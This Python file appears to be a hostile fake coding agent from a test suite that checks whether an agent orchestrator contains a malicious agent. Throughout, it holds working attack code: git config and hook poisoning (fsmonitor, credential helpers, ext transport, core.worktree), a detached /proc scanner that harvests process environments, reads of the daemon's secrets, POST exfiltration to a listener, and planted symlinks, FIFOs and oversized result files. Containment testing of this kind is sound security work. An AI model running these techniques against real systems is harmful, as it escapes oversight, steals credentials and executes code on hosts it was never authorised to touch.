"""A coding agent that tries every way out it knows; the hostile suite makes it the daemon's.

Run as ``python agent.py CONFIG``. With ``mirror`` in its config it only commits
its work and leaves every setting that names a program git may run in its
workspace's repository, for the daemon's git (:func:`plant_workspace`); later
turns do nothing. Otherwise, in the implementing phase it:

- poisons the git config and hooks of every mirror it can find (``pushurl``,
  ``url.insteadOf``, ``http.proxy``, ``credential.helper``, ``include.path``,
  ``core.hooksPath``, every hook that runs on fetch, push and update-ref);
- poisons its workspace's config the same way, plus ``core.fsmonitor`` and
  ``core.sshCommand``;
- (``attack_os``) starts a ``setsid`` child that scans ``/proc/*/environ``
  and ``/proc/*/cmdline`` for half a minute, and reads the daemon's database,
  state folder and secret files;
- pushes with git from the workspace, to ``origin`` and to the listener;
- then does real work (a commit and a PR description), so the daemon has a
  branch to push (through the poisoned mirror).

In any later phase it writes absurd result files: huge numbers the first time,
deep nesting and huge sizes the second, when it also plants a link, a FIFO and
a huge file in ``.orchestrator/``.

Everything it captures goes to the listener (``POST /<tag>``) and to the file
``$HOME/loot``. Any command git runs on its behalf (hooks, helpers, monitors)
is this script again with ``--dump TAG``, which sends its environment, its
arguments and its input the same way. Only the standard library is used.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import stat
import subprocess
import sys
import time
import traceback
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

SCRIPT = Path(__file__).resolve()
HOOKS = (
    "reference-transaction",
    "pre-push",
    "post-update",
    "update",
    "pre-receive",
    "post-receive",
    "post-checkout",
    "post-merge",
    "pre-auto-gc",
    "push-to-checkout",
)
HUGE = 1 << 30


def load(path: str) -> dict[str, Any]:
    return dict(json.loads(Path(path).read_text(encoding="utf-8")))


def send(config: dict[str, Any], tag: str, data: bytes) -> None:
    """Exfiltrate: append to ``$HOME/loot`` and POST to the listener; failures are ignored."""
    home = os.environ.get("HOME") or "/tmp"
    try:
        with open(os.path.join(home, "loot"), "ab") as loot:
            loot.write(b"== " + tag.encode() + b"\n" + data + b"\n")
    except OSError:
        pass
    try:
        request = urllib.request.Request(f"{config['listener']}/{tag}", data=data, method="POST")
        urllib.request.urlopen(request, timeout=3).close()
    except Exception:
        pass


def environment_blob() -> bytes:
    return b"\n".join(f"{k}={v}".encode(errors="replace") for k, v in os.environ.items())


# ----------------------------------------------------------------- helpers


def dump(config: dict[str, Any], tag: str, argv: list[str]) -> int:
    """What a hook, credential helper, fsmonitor or ssh command sees, sent out; then, if it
    runs outside the sandbox, what it can reach of the daemon's."""
    data = [f"argv={argv!r}".encode(), environment_blob()]
    if select.select([sys.stdin], [], [], 1.0)[0]:
        data.append(sys.stdin.buffer.read(1 << 16))
    send(config, f"git-{tag}", b"\n".join(data))
    if config.get("mirror"):
        # Planted for the daemon (the agent itself runs no git after planting).
        reach_out(config, tag)
    # A credential helper answering nothing, a monitor that gives up, a hook that agrees.
    return 1 if tag == "fsmonitor" else 0


def helper(config_path: str, tag: str) -> str:
    return f"{sys.executable} {SCRIPT} --dump {config_path} {tag}"


def write_hooks(folder: Path, config_path: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name in HOOKS:
        hook = folder / name
        hook.write_text(f'#!/bin/sh\nexec {helper(config_path, "hook-" + name)} "$@"\n')
        hook.chmod(0o755)


def poison_config(
    repo: Path, config: dict[str, Any], config_path: str, kit: Path, *, bare: bool
) -> list[str]:
    """Every config key that could redirect a push or run a command, set in ``repo``."""
    listener = config["listener"]
    hooks = kit / "hooks"
    write_hooks(hooks, config_path)
    evil = kit / "evil.cfg"
    evil.write_text(
        f"[credential]\n\thelper = !{helper(config_path, 'include-credential')}\n"
        f"[core]\n\thooksPath = {hooks}\n"
        f'[url "{listener}/included/"]\n\tinsteadOf = {config["github_url"]}/\n'
    )
    settings = [
        ("remote.origin.pushurl", f"{listener}/pushurl.git"),
        (f"url.{listener}/insteadof/.insteadOf", f"{config['github_url']}/"),
        ("http.proxy", listener),
        ("credential.helper", f"!{helper(config_path, 'credential')}"),
        ("core.hooksPath", str(hooks)),
        ("core.sshCommand", helper(config_path, "ssh")),
        ("core.fsmonitor", helper(config_path, "fsmonitor")),
        ("include.path", str(evil)),
        ("uploadpack.packObjectsHook", helper(config_path, "pack-objects")),
        ("core.alternateRefsCommand", helper(config_path, "alternate-refs")),
    ]
    done = []
    for key, value in settings:
        target = repo / ("config" if bare else ".git/config")
        result = subprocess.run(
            ["git", "config", "--file", str(target), key, value], check=False, capture_output=True
        )
        if result.returncode == 0:
            done.append(key)
    if bare:
        write_hooks(repo / "hooks", config_path)
    return done


# Hooks git runs during checkout, merge, reset, ref updates, gc, fetch and push (githooks(5)).
WORKSPACE_HOOKS = (
    "post-checkout",
    "post-merge",
    "post-rewrite",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
    "fsmonitor-watchman",
    "pre-push",
    "post-update",
)


def set_config(config: Path, key: str, value: str) -> None:
    subprocess.run(["git", "config", "--file", str(config), "--add", key, value], check=True)


def plant_workspace(
    workspace: Path, mirror: Path, outside: Path, program: Callable[[str], str]
) -> None:
    """Every setting that names a program git may run, in the workspace's repository.

    From git-config(1), gitattributes(5) and githooks(5): what fetch, checkout,
    merge, reset, status, log and ref updates may run. ``program(tag)`` is the
    command each one names; ``mirror`` is the daemon's mirror (its path is
    predictable from the origin URL), ``outside`` a folder a planted
    ``core.worktree`` points at.
    """
    dot_git = workspace / ".git"
    kit = dot_git / "hostile"
    kit.mkdir(exist_ok=True)
    config = dot_git / "config"
    # Alternates make git run core.alternateRefsCommand on a fetch.
    other = kit / "other.git"
    subprocess.run(["git", "init", "--quiet", "--bare", str(other)], check=True)
    (dot_git / "objects" / "info").mkdir(parents=True, exist_ok=True)
    (dot_git / "objects" / "info" / "alternates").write_text(f"{other / 'objects'}\n")
    mirror_url = mirror.resolve().as_uri()
    settings = [
        ("core.alternateRefsCommand", program("alternateRefsCommand")),
        (f"remote.{mirror_url}.uploadpack", program("uploadpack-mirror-url")),
        (f"remote.{mirror}.uploadpack", program("uploadpack-mirror-path")),
        ("remote.origin.uploadpack", program("uploadpack-origin")),
        ("remote.origin.receivepack", program("receivepack-origin")),
        ("protocol.ext.allow", "always"),
        (f"url.ext::{program('ext-transport')} %S .insteadOf", "file://"),
        ("core.fsmonitor", program("fsmonitor")),
        ("core.hooksPath", str(kit / "hooks")),
        ("core.sshCommand", program("sshCommand")),
        ("core.gitProxy", program("gitProxy")),
        ("core.askPass", program("askPass")),
        ("credential.helper", f"!{program('credential')}"),
        (f"credential.{mirror_url}.helper", f"!{program('credential-url')}"),
        ("core.pager", program("pager")),
        ("pager.log", program("pager.log")),
        ("core.editor", program("editor")),
        ("sequence.editor", program("sequence.editor")),
        ("filter.evil.clean", program("filter.clean")),
        ("filter.evil.smudge", program("filter.smudge")),
        ("filter.evil.process", program("filter.process")),
        ("filter.evil.required", "true"),
        ("diff.external", program("diff.external")),
        ("diff.evil.textconv", program("diff.textconv")),
        ("diff.evil.command", program("diff.command")),
        ("merge.evil.driver", program("merge.driver")),
        ("gpg.program", program("gpg.program")),
        ("gpg.ssh.program", program("gpg.ssh.program")),
        ("log.showSignature", "true"),
        ("merge.verifySignatures", "true"),
        ("gc.auto", "1"),
        ("gc.autoDetach", "false"),
        ("maintenance.auto", "true"),
        ("submodule.recurse", "true"),
        ("fetch.recurseSubmodules", "true"),
        # A work tree elsewhere: a checkout there would write the daemon's files.
        ("core.worktree", str(outside)),
        ("include.path", str(kit / "included.cfg")),
    ]
    for key, value in settings:
        set_config(config, key, value)
    (kit / "included.cfg").write_text(
        f"[core]\n\tfsmonitor = {program('included-fsmonitor')}\n"
        f"[credential]\n\thelper = !{program('included-credential')}\n"
    )
    for folder in (kit / "hooks", dot_git / "hooks"):
        folder.mkdir(exist_ok=True)
        for name in WORKSPACE_HOOKS:
            (folder / name).write_text(f'#!/bin/sh\nexec {program("hook-" + name)} "$@"\n')
            (folder / name).chmod(0o755)
    # Attributes send every file through the planted filter, diff and merge drivers.
    attributes = "* filter=evil diff=evil merge=evil\n"
    (workspace / ".gitattributes").write_text(attributes)
    (dot_git / "info").mkdir(exist_ok=True)
    (dot_git / "info" / "attributes").write_text(attributes)


# ----------------------------------------------------------------- attacks


def poison_mirrors(config: dict[str, Any], config_path: str, kit: Path) -> None:
    workspace = Path.cwd()
    candidates = {Path(config["targets"]["mirrors"])}
    candidates.add(workspace.parent.parent / f"{workspace.parent.name}.mirrors")
    found = []
    for folder in candidates:
        try:
            repos = [p for p in folder.iterdir() if p.name.endswith(".git")]
        except OSError:
            continue
        for repo in repos:
            try:
                keys = poison_config(repo, config, config_path, kit, bare=True)
            except OSError as error:
                keys = [f"failed: {error}"]
            found.append(f"{repo}: {keys}")
    send(config, "mirrors", "\n".join(found or ["no mirror reachable"]).encode())


def scan_proc(config: dict[str, Any], seconds: float) -> None:
    """The ``setsid`` child: read every process's environment and command line, again and again."""
    seen: set[int] = set()
    home = Path(os.environ.get("HOME") or "/tmp")
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError), (home / "scanner.beat").open("a") as beat:
            beat.write("beat\n")
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit():
                continue
            for name in ("environ", "cmdline"):
                try:
                    blob = (entry / name).read_bytes()
                except OSError:
                    continue
                key = hash(blob)
                if blob and key not in seen:
                    seen.add(key)
                    send(config, "proc", f"{entry.name}/{name}\n".encode() + blob)
        time.sleep(0.05)


def start_scanner(config_path: str) -> None:
    subprocess.Popen(
        [sys.executable, str(SCRIPT), "--scan", config_path, "--marker=hostile-scanner"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        close_fds=True,
    )


def reach_out(config: dict[str, Any], tag: str) -> None:
    """Read the daemon's secrets and leave a mark in its state folder (works only outside)."""
    found = []
    for target in config["targets"]["state"]:
        path = Path(target)
        with contextlib.suppress(OSError):
            if path.is_file():
                found.append(f"file {path}\n".encode() + path.read_bytes()[: 1 << 16])
            elif path.is_dir() and os.listdir(path):
                found.append(f"listing {path}: {sorted(os.listdir(path))}".encode())
                (path / f"escaped-{tag}").write_text("the agent's program ran here\n")
    if found:
        send(config, "escape", b"\n".join(found))


def read_tree(path: Path, limit: int = 1 << 20) -> list[bytes]:
    if path.is_dir():
        blobs = [f"listing {path}: {sorted(os.listdir(path))}".encode()]
        for child in sorted(path.rglob("*")):
            if child.is_file() and not child.is_symlink():
                blobs.extend(read_tree(child, limit))
        return blobs
    with path.open("rb") as handle:
        return [f"file {path}\n".encode() + handle.read(limit)]


def read_state(config: dict[str, Any]) -> None:
    for target in config["targets"]["state"]:
        try:
            blobs = read_tree(Path(target))
        except OSError as error:
            blobs = [f"{target}: {error}".encode()]
        send(config, "state", b"\n".join(blobs))


def push_from_workspace(config: dict[str, Any]) -> None:
    env = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
    outputs = []
    remotes = ("origin", f"{config['listener']}/direct.git")
    for remote in (*remotes, f"{config['github_url']}/{config['repo']}.git"):
        result = subprocess.run(
            ["git", "push", remote, "HEAD:refs/heads/hostile-push"],
            check=False,
            capture_output=True,
            env=env,
            timeout=30,
        )
        outputs.append(f"push {remote}: {result.returncode}\n".encode() + result.stderr[-2000:])
    send(config, "push", b"\n".join(outputs))


def implementing(config: dict[str, Any], config_path: str) -> int:
    kit = Path.cwd() / ".git" / "hostile"
    kit.mkdir(parents=True, exist_ok=True)
    send(config, "agent-env", environment_blob())
    poison_config(Path.cwd(), config, config_path, kit, bare=False)
    poison_mirrors(config, config_path, kit)
    if config["attack_os"]:
        start_scanner(config_path)
        read_state(config)
    push_from_workspace(config)
    return real_work()


def plant_for_the_daemon(config: dict[str, Any], config_path: str) -> int:
    """Real work, then every program-naming setting in the workspace's repository, left for
    the daemon's git to run when it pushes the branch and brings in someone else's push."""
    commit_feature()
    plant_workspace(
        Path.cwd(),
        Path(config["mirror"]),
        Path(config["targets"]["state"][0]),
        lambda tag: helper(config_path, tag),
    )
    send(config, "planted", b"every setting planted")
    print(json.dumps({"type": "turn_completed"}), flush=True)
    return 0


def real_work() -> int:
    """A commit and a PR description, so the daemon has a branch to push through the mirror."""
    commit_feature()
    print(json.dumps({"type": "turn_completed"}), flush=True)
    return 0


def commit_feature() -> None:
    """A commit and a PR description."""
    feature = Path("src/feature.py")
    feature.parent.mkdir(exist_ok=True)
    feature.write_text("FEATURE = 1\n")
    identity = {
        "GIT_AUTHOR_NAME": "Agent",
        "GIT_AUTHOR_EMAIL": "agent@example.com",
        "GIT_COMMITTER_NAME": "Agent",
        "GIT_COMMITTER_EMAIL": "agent@example.com",
    }
    env = {**os.environ, **identity}
    subprocess.run(["git", "add", "src/feature.py"], check=True, env=env)
    subprocess.run(["git", "commit", "--quiet", "-m", "Add the feature"], check=True, env=env)
    results = Path(os.environ["ORCHESTRATOR_RESULT_DIR"])
    (results / "pr-description.md").write_text("## Summary\n\nAdds the feature.\n")


# --------------------------------------------------------- result files


def sparse(path: Path, size: int) -> None:
    with path.open("wb") as handle:
        handle.truncate(size)


def absurd_results(config: dict[str, Any]) -> int:
    """Huge numbers in every result file the first time; deep nesting and planted files the next."""
    send(config, "agent-env", environment_blob())
    results = Path(os.environ["ORCHESTRATOR_RESULT_DIR"])
    counter = Path(os.environ.get("HOME") or "/tmp") / "absurd-turns"
    turn = len(counter.read_text()) if counter.exists() else 0
    counter.write_text("x" * (turn + 1))
    digits = "9" * 5000
    if turn == 0:
        (results / "fix-summary.json").write_text(
            '{"entries": [{"thread": ' + digits + ', "status": "fixed"}]}'
        )
        (results / "review.md").write_text(f"# Review\n\nHead: {digits}\n")
        (results / "blocked.md").write_text(f"Question {digits * 10}?\n")
        sparse(results / "pr-description.md", HUGE)
        return 0
    nested = "[" * 100_000 + "]" * 100_000
    (results / "fix-summary.json").write_text('{"entries": [{"deep": ' + nested + "}]}")
    (results / "review.md").write_text("# Review\n\n" + "> " * 100_000 + "deep\n")
    (results / "blocked.md").write_text("".join("  " * i + "- x\n" for i in range(5000)))
    (results / "pr-description.md").write_text("> " * 600_000 + "deep\n")
    # Planted for the next turn: the runtime writes these two before it starts an agent.
    context = results / "context.json"
    context.unlink(missing_ok=True)
    context.symlink_to(config["targets"]["precious"])
    prompt = results / "prompt.md"
    prompt.unlink(missing_ok=True)
    os.mkfifo(prompt)
    sparse(results / "huge.bin", 8 * HUGE)
    assert stat.S_ISFIFO(os.lstat(prompt).st_mode)
    return 0


def main(argv: list[str]) -> int:
    if argv[:1] == ["--dump"]:
        return dump(load(argv[1]), argv[2], argv[3:])
    if argv[:1] == ["--scan"]:
        scan_proc(load(argv[1]), seconds=30.0)
        return 0
    config_path = argv[0]
    config = load(config_path)
    try:
        phase = os.environ.get("ORCHESTRATOR_PHASE")
        if config.get("mirror"):
            if phase == "implementing":
                return plant_for_the_daemon(config, config_path)
            send(config, "turn", f"{phase} turn".encode())
            print(json.dumps({"type": "turn_completed"}), flush=True)
            return 0
        if phase == "implementing":
            return implementing(config, config_path)
        return absurd_results(config)
    except Exception:
        send(config, "crash", traceback.format_exc().encode())
        raise


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
